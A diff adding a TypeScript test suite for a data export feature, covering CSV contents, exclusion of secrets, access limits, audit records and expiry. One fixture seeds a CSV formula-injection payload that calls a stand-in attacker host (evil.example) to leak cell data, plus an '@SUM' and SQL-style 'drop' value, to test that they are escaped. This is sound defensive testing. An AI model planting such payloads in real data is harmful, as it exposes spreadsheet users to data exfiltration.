@@ -1,0 +1,224 @@
+import { createHash } from 'node:crypto'
+import { mkdir, readdir, stat } from 'node:fs/promises'
+import { join } from 'node:path'
+import { unzipSync } from 'fflate'
+import Papa from 'papaparse'
+import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
+import { audit } from '#features/audit/index.server.ts'
+import type { AuditPage } from '#features/audit/schema.ts'
+import { identity } from '#features/identity/index.server.ts'
+import { type TestApp, testApp } from '#tests/app.ts'
+import { makePerson, signInAs } from '#tests/people.ts'
+import { makePackage } from '#tests/timetable.ts'
+import type { Visitor } from '#tests/visitor.ts'
+import { dataExport } from './index.server.ts'
+import { tidyExports } from './jobs.server.ts'
+import { cellOf, isSecretColumn } from './rules.ts'
+import type { ExportView } from './schema.ts'
+
+let server: TestApp
+let radhika: Visitor
+let other: Visitor
+beforeAll(async () => {
+  server = await testApp({ features: [identity, audit, dataExport], jobs: [dataExport] })
+  await makePerson(server, { email: 'radhika@export.example', firstName: 'Radhika', role: 'owner' })
+  await makePerson(server, { email: 'other@export.example', role: 'owner' })
+  await makePerson(server, { email: 'hindi@export.example', firstName: 'प्रिया', lastName: 'शर्मा' })
+  await makePerson(server, {
+    email: 'formula@export.example',
+    firstName: '=HYPERLINK("http://evil.example?"&A1)',
+    lastName: "+1\t@SUM(A1)\n'; drop",
+  })
+  await makePackage(server.deps.db)
+})
+afterAll(() => server.close())
+beforeEach(async () => {
+  server.clock.set('2026-11-23T06:30:00Z')
+  radhika = await signInAs(server, 'radhika@export.example')
+  other = await signInAs(server, 'other@export.example')
+})
+
+const start = async (who: Visitor) => {
+  const { status, body } = await who.call<ExportView>('POST', '/console/exports')
+  expect(status, body.message).toBe(201)
+  return body.data._id
+}
+const mine = async (who: Visitor) =>
+  (await who.call<{ rows: ExportView[] }>('GET', '/console/exports')).body.data.rows
+async function finished(exportId: string, who = radhika): Promise<ExportView> {
+  const found = async () => (await mine(who)).find(({ _id }) => _id === exportId)
+  await expect.poll(async () => (await found())?.state, { timeout: 20_000 }).toBe('done')
+  return (await found()) as ExportView
+}
+const cookieOf = (who: Visitor) => [...who.cookies].map((c) => c.join('=')).join('; ')
+const fetchFile = (who: Visitor, exportId: string) =>
+  server.app.inject({
+    url: `/api/v1/console/exports/${exportId}/file`,
+    headers: { cookie: cookieOf(who) },
+  })
+/** The files by name, as tables. */
+async function unzipped(exportId: string): Promise<Map<string, string[][]>> {
+  const { statusCode, rawPayload, headers } = await fetchFile(radhika, exportId)
+  expect(statusCode).toBe(200)
+  expect(headers['content-type']).toBe('application/zip')
+  expect(headers['content-disposition']).toBe('attachment; filename="contrology-2026-11-23.zip"')
+  expect(headers['cache-control']).toBe('no-store')
+  const files = Object.entries(unzipSync(rawPayload))
+  return new Map(
+    files.map(([name, bytes]) => {
+      const text = Buffer.from(bytes).toString()
+      expect(text.charCodeAt(0), name).toBe(0xfeff)
+      return [name, Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data]
+    }),
+  )
+}
+
+test('an export is a zip of a CSV file for each table, of one state of the books', async () => {
+  const exportId = await start(radhika)
+  const done = await finished(exportId)
+  expect(done).toMatchObject({ done: done.total, keptUntil: '2026-11-24T06:30:00.000Z' })
+  const files = await unzipped(exportId)
+  expect(files.size).toBe(done.tables)
+  expect([...files.values()].reduce((sum, rows) => sum + rows.length - 1, 0)).toBe(done.rows)
+  for (const name of [
+    'person',
+    'class',
+    'session',
+    'booking',
+    'pass',
+    'ledger_entry',
+    'payment_order',
+    'enquiry',
+  ])
+    expect([...files.keys()]).toContain(`${name}.csv`)
+  const [head = [], ...people] = files.get('person.csv') ?? []
+  const at = (column: string) => head.indexOf(column)
+  const priya = people.find((row) => row[at('email')] === 'hindi@export.example')
+  expect(priya?.[at('first_name')]).toBe('प्रिया')
+  expect(priya?.[at('birth_date')]).toBe('1990-05-17')
+  expect(priya?.[at('created_at')]).toBe('2026-11-23T06:30:00.000Z')
+  expect(files.get('booking.csv')).toHaveLength(1)
+})
+
+test('no cell begins as a formula does', async () => {
+  const exportId = await start(radhika)
+  await finished(exportId)
+  const files = await unzipped(exportId)
+  const cells = [...files.values()].flat(2)
+  expect(cells.filter((cell) => /^[=+@\t\r|%＝＋－＠]/.test(cell))).toEqual([])
+  // A number below nothing is one; words that begin so are not.
+  expect(cells.filter((cell) => cell.startsWith('-') && !/^-\d+$/.test(cell))).toEqual([])
+  const people = files.get('person.csv') ?? []
+  expect(people.flat()).toContain('\'=HYPERLINK("http://evil.example?"&A1)')
+  expect(people.flat()).toContain("'+1\t@SUM(A1)\n'; drop")
+})
+
+test('no secret is in it: passwords, tokens, sealed secrets, whatever tables come', async () => {
+  const { db } = server.deps
+  await server.database.asOwner(async (owner) => {
+    await owner.query(
+      'create table added_later (id int, note text, api_token text, sealed_key text, raw bytea)',
+    )
+    await owner.query(
+      "insert into added_later values (1, 'told', 'tok-planted', 'sealed-planted', 'raw-planted')",
+    )
+    await owner.query('grant select on added_later to contrology_app')
+  })
+  const exportId = await start(radhika)
+  await finished(exportId)
+  const files = await unzipped(exportId)
+  const all = JSON.stringify([...files])
+  const hashes = await db.selectFrom('person').select('password_hash').execute()
+  for (const { password_hash } of hashes) expect(all).not.toContain(password_hash)
+  const tokens = await db.selectFrom('refresh_token').select('token_hash').execute()
+  expect(tokens.length).toBeGreaterThan(0)
+  for (const { token_hash } of tokens) expect(all).not.toContain(token_hash.toString('hex'))
+  for (const name of ['accessToken', 'refreshToken']) {
+    const value = radhika.cookies.get(name) ?? ''
+    expect(value).not.toBe('')
+    expect(all).not.toContain(value)
+    expect(all).not.toContain(createHash('sha256').update(value).digest('hex'))
+  }
+  expect(all).not.toContain('$argon2')
+  expect(all).not.toContain('planted')
+  expect(files.get('added_later.csv')).toEqual([
+    ['id', 'note'],
+    ['1', 'told'],
+  ])
+  for (const gone of ['refresh_token', 'passkey', 'recovery_code', 'authenticator_app', 'one_time_code'])
+    expect(files.has(`${gone}.csv`), gone).toBe(false)
+})
+
+test.each(['password_hash', 'token_hash', 'sealed_secret', 'device_digest', 'api_secret'])(
+  'a column %s stays here',
+  (name) => {
+    expect(isSecretColumn({ name, type: 'text' })).toBe(true)
+    expect(isSecretColumn({ name: 'note', type: 'text' })).toBe(false)
+  },
+)
+
+test('lists and records are told as JSON, and nothing as nothing', () => {
+  expect(cellOf([1, 3])).toBe('[1,3]')
+  expect(cellOf({ name: 'Mat' })).toBe('{"name":"Mat"}')
+  expect([cellOf(null), cellOf(undefined), cellOf(false), cellOf(0)]).toEqual([null, null, false, 0])
+})
+
+test('only who asked for it fetches it, for a day, and it is recorded', async () => {
+  const exportId = await start(radhika)
+  await finished(exportId)
+  expect((await fetchFile(other, exportId)).statusCode).toBe(404)
+  expect((await other.call('POST', `/console/exports/${exportId}/downloads`)).status).toBe(404)
+  expect(await mine(other)).toEqual([])
+  const { body } = await radhika.call<{ href: string }>('POST', `/console/exports/${exportId}/downloads`)
+  expect(body.data.href).toBe(`/api/v1/console/exports/${exportId}/file`)
+  const recorded = await radhika.call<AuditPage>('GET', `/console/audit?subjectId=${exportId}`)
+  expect(recorded.body.data.rows.map(({ action, staff }) => [action, staff?.name])).toEqual([
+    ['export.download', 'Radhika Test'],
+    ['export.start', 'Radhika Test'],
+  ])
+  server.clock.advance({ hours: 23 })
+  radhika = await signInAs(server, 'radhika@export.example')
+  expect((await fetchFile(radhika, exportId)).statusCode).toBe(200)
+  server.clock.advance({ hours: 1 })
+  radhika = await signInAs(server, 'radhika@export.example')
+  expect((await fetchFile(radhika, exportId)).statusCode).toBe(404)
+  const folder = join(server.deps.dataDir, 'exports')
+  expect(await readdir(folder)).toContain(`${exportId}.zip`)
+  expect((await stat(join(folder, `${exportId}.zip`))).mode & 0o077).toBe(0)
+  await tidyExports(server.deps)
+  expect(await readdir(folder)).not.toContain(`${exportId}.zip`)
+})
+
+test('it is asked for, and fetched, only soon after proving who one is', async () => {
+  const exportId = await start(radhika)
+  await finished(exportId)
+  server.clock.advance({ minutes: 11 })
+  const refused = [
+    (await radhika.call('POST', '/console/exports')).body.error?.code,
+    (await radhika.call('POST', `/console/exports/${exportId}/downloads`)).body.error?.code,
+    (await fetchFile(radhika, exportId)).json().error.code,
+  ]
+  expect(refused).toEqual(Array(3).fill('FRESH_PROOF_REQUIRED'))
+})
+
+test('a second click while one runs begins none', async () => {
+  const ids = await Promise.all([start(radhika), start(radhika)])
+  const again = await start(radhika)
+  expect(ids).toContain(again)
+  for (const id of new Set(ids)) await finished(id)
+})
+
+test('one that cannot be written is told as failed', async () => {
+  const { deps } = server
+  const blocked = { ...deps, dataDir: join(deps.dataDir, 'blocked') }
+  const { runExport } = await import('./usecases/exportData.server.ts')
+  const { insertLongJob } = await import('#features/longJob/usecases/longJobs.server.ts')
+  const startedBy = (await radhika.call<{ _id: string }>('GET', '/user/get-user')).body.data._id
+  const exportId = await deps.db
+    .transaction()
+    .execute((trx) => insertLongJob(trx, { kind: 'dataExport.run', total: 9, startedBy }, deps.clock.now()))
+  // A folder stands where the file would be.
+  await mkdir(join(blocked.dataDir, 'exports', `${exportId}.zip.part`), { recursive: true })
+  await runExport(blocked, exportId)
+  expect((await mine(radhika)).find(({ _id }) => _id === exportId)?.state).toBe('failed')
+})
